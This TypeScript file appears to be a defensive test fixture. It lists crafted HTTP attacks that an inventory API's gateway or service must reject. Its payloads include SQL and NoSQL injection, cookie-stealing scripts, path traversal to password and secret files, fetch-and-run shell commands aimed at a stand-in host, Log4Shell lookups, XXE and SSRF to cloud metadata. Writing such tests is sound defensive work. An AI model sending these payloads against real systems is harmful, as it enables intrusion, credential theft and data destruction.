/** Attacks of our own making, in well-formed HTTP. Whoever is named must stop them; none may be answered with success. */
export interface Attack {
  readonly name: string;
  readonly by: 'gateway' | 'service';
  readonly method?: string;
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  /** Sent as JSON; a text is sent as it is. */
  readonly body?: object | string;
}

const enc = encodeURIComponent;
const shelf = '/v1/warehouses/BER/inventory/OAK';
const put = (name: string, body: object, by: Attack['by'] = 'gateway'): Attack => ({
  ...{ name, by, method: 'PUT', path: '/v1/items/OAK', body },
});
/** But for its name the service would take it. */
const item = (name: string) => ({
  name,
  attributes: { colour: 'oak' },
  boxes: [{ boxCode: 'A', lengthMm: 1, widthMm: 1, heightMm: 1, weightGrams: 1 }],
});
const find = (name: string, q: string, by: Attack['by'] = 'gateway'): Attack => ({
  ...{ name: `${name}, in a query`, by, path: `/v1/warehouses/BER/inventory?q=${enc(q)}` },
});
const adjust = (name: string, more: object, by: Attack['by'] = 'gateway'): Attack => ({
  ...{ name, by, method: 'POST', path: `${shelf}/adjustments`, body: { delta: 1, reason: 'other', ...more } },
});
const read = (name: string, path: string, by: Attack['by'] = 'gateway'): Attack => ({ name, by, path });
const hook = (name: string, url: string, by: Attack['by'] = 'service'): Attack => ({
  ...{ name: `a webhook to ${name}`, by, method: 'POST', path: '/v1/webhook-endpoints' },
  body: { url, eventTypes: ['stock.changed'] },
});
const withHeader = (name: string, header: string, value: string, by: Attack['by'] = 'gateway'): Attack => ({
  ...{ name, by, path: '/v1/items/NONE', headers: { [header]: value } },
});

const sql: readonly Attack[] = [
  find('SQL that is always true', "x' OR 'b'='b"),
  find('SQL that is always true, in a comment', "x'/**/OR/**/7=7#"),
  find('a UNION over users', "1' UNION ALL SELECT login, secret FROM accounts-- "),
  find('blind SQL by time', "1' AND 5=(SELECT 5 FROM PG_SLEEP(9))-- "),
  find('a stacked query', "1'; DROP TABLE streams;-- "),
  read('SQL in a filter', `/v1/orders?customerId=${enc("a' or 1=1 -- ")}`),
  read('SQL in a limit', `/v1/items?limit=${enc('1 UNION SELECT password FROM users')}`),
  read('SQL in a cursor', `/v1/items?cursor=${enc("' OR '1'='1")}`),
  read('SQL in the name of a parameter', `/v1/items?${enc("a' or 1=1 -- ")}=1`),
  adjust('SQL in a field of an enumeration', { reason: "other' OR 'a'='a" }),
  put('SQL in a number', { ...item('Oak'), priority: "1; SELECT * FROM users WHERE 'a'='a'" }),
  put('SQL in the name of goods', item("x' UNION SELECT card FROM customers -- ")),
];

/** Its values are too many to be read; what stands beside them is. */
const besideMuch: readonly Attack[] = [
  {
    ...{ name: 'SQL beside a large body', by: 'gateway', method: 'POST' },
    path: `/v1/inventory/changes?dryRun=${enc("true' or 1=1 -- ")}`,
    body: { changes: [{ kind: 'receipt', note: 'a'.repeat(20_000) }] },
  },
];

const noSql: readonly Attack[] = [
  adjust('an operator of MongoDB in place of a number', { delta: { $gt: 0 } }),
  adjust('code for MongoDB in place of a text', { reason: { $where: 'sleep(5000)' } }),
  read('an operator of MongoDB in a query', '/v1/orders?customerId[$ne]=x'),
  read('a regular expression of MongoDB in a query', '/v1/items?q[$regex]=.*'),
  put('a prototype', JSON.parse('{"name":"x","boxes":[],"__proto__":{"isAdmin":true}}') as object),
  put('a constructor', { ...item('x'), constructor: { prototype: { isAdmin: true } } }, 'service'),
  put('a role for oneself', { ...item('x'), roles: ['admin'] }, 'service'),
];

const scripts: readonly Attack[] = [
  put('a script element', item('<script>document.location="https://x.test/"+document.cookie</script>')),
  put('a picture that fails', item('<img src=q onerror=alert(7)>')),
  put('a drawing that loads', item('<svg/onload=confirm(7)>')),
  put('a frame', item('<iframe src="javascript:alert(7)"></iframe>')),
  adjust('a script in a note', { note: 'left <script>fetch("//x.test")</script> right' }),
  find('a script', '"><script>alert(7)</script>'),
  find('an encoded script', '%3Cscript%3Ealert(7)%3C/script%3E'),
  withHeader('a script as the name of a program', 'user-agent', '<script>alert(7)</script>'),
  withHeader('a script as a referrer', 'referer', 'https://x.test/?a=<script>alert(7)</script>'),
];

const files: readonly Attack[] = [
  find('a path to the passwords', '../../../../etc/passwd'),
  read('a path out of the documentation', '/docs/static/..%2f..%2f..%2f..%2fetc%2fpasswd'),
  read('a path with double dots', '/docs/../../../etc/shadow'),
  read('a path with dots encoded twice', '/v1/items/%252e%252e%252f%252e%252e%252fetc%252fpasswd'),
  read('a path with overlong dots', '/v1/items/%c0%ae%c0%ae%2fetc%2fpasswd'),
  read('a path with a zero byte', '/v1/items/OAK%00.json'),
  read('the history of a repository', '/v1/.git/config'),
  read('a file of secrets', '/.env'),
  find('the page of a stranger', 'http://198.51.100.7/shell.txt?'),
  find('a file of PHP', 'php://filter/convert.base64-encode/resource=index'),
];

const commands: readonly Attack[] = [
  read('a shell command in a filter', `/v1/orders?status=${enc('pending;cat /etc/passwd')}`),
  find('a command in backticks', '`/bin/cat /etc/passwd`'),
  find('a command in a substitution', '$(wget -qO- x.test|sh)'),
  adjust('a command in an enumeration', { reason: 'other; curl https://x.test/a.sh | bash' }),
  withHeader('a function for an old shell', 'user-agent', '() { :; }; /bin/bash -c "id"'),
  adjust('code for Node.js in an enumeration', { reason: "require('child_process').execSync('id')" }, 'service'),
  put('a function of PHP', item('<?php system($_GET[0]); ?>')),
];

const lookUps: readonly Attack[] = [
  withHeader('a look-up for a logger, as the name of a program', 'user-agent', `\${jndi:ldap://x.test/a}`),
  find('a look-up for a logger', `\${jndi:rmi://x.test:1099/b}`),
  put('a look-up for a logger that hides', item(`\${\${lower:j}ndi:\${lower:l}dap://x.test/c}`)),
  put('a serialized object of Java', item('java.lang.Runtime.getRuntime().exec("id")')),
];

const entities = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>';
const bodies: readonly Attack[] = [
  ...(['application/xml', 'text/xml'] as const).map((type) => ({
    ...({ name: `external entities as ${type}`, by: 'gateway', method: 'PUT', path: '/v1/items/OAK' } as const),
    headers: { 'content-type': type },
    body: entities,
  })),
  { ...put('a body that is no JSON', {}), body: '{"name": "x", ' },
  { ...put('two members of one name', {}, 'service'), body: '{"name":"x","name":"y","boxes":[]}' },
  { ...put('a body that is nested deeply', {}), body: `${'['.repeat(5_000)}${']'.repeat(5_000)}` },
  { ...put('a body with too many values', {}), body: JSON.stringify({ name: Array.from({ length: 9_000 }, () => 1) }) },
  {
    ...put('JSON in another character set', item('x')),
    headers: { 'content-type': 'application/json; charset=utf-7' },
  },
  {
    ...put('a form in place of JSON', {}),
    headers: { 'content-type': 'multipart/form-data; boundary=x' },
    body: '--x--',
  },
  { ...put('a packed body', item('x')), headers: { 'content-encoding': 'gzip' } },
];

const targets: readonly Attack[] = [
  hook('this machine', 'https://127.0.0.1/hook'),
  hook('the metadata of a cloud', 'http://169.254.169.254/latest/meta-data/'),
  hook('a private network', 'https://10.0.0.8/hook'),
  hook('a number that hides an address', 'https://2130706433/hook'),
  hook('an address in IPv6', 'https://[::ffff:127.0.0.1]/hook'),
  hook('a file', 'file:///etc/passwd', 'gateway'),
  hook('an old protocol', 'gopher://127.0.0.1:6379/_FLUSHALL'),
  hook('a name and a password', 'https://user:secret@127.0.0.1/hook'),
];

const scanners: readonly Attack[] = [
  ...['sqlmap/1.7', 'Nikto/2.5.0', 'masscan/1.3', 'Nuclei - Open-source project', 'dirbuster'].map((agent) =>
    withHeader(`a scanner, ${agent}`, 'user-agent', agent),
  ),
];

const others: readonly Attack[] = [
  withHeader('a method behind the method', 'x-http-method-override', 'DELETE', 'service'),
  { ...withHeader('a method of its own', 'accept', '*/*'), method: 'DEBUG' },
  { ...withHeader('a trace', 'accept', '*/*'), method: 'TRACE' },
  withHeader('a name of another host', 'host', 'internal.test'),
  withHeader('a token without a signature', 'authorization', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0.', 'service'),
  withHeader('a certificate that was made up', 'x-client-certificate', 'made up', 'service'),
  read('partners without a certificate', '/v1/partners/p1/inventory-snapshots'),
  read('the metrics', '/metrics'),
  read('the metrics, in disguise', '/docs/..%2fmetrics'),
  read('readiness', '/health/ready'),
];

export const attacks: readonly Attack[] = [
  ...[...sql, ...besideMuch, ...noSql, ...scripts, ...files, ...commands],
  ...[...lookUps, ...bodies, ...targets, ...scanners, ...others],
];
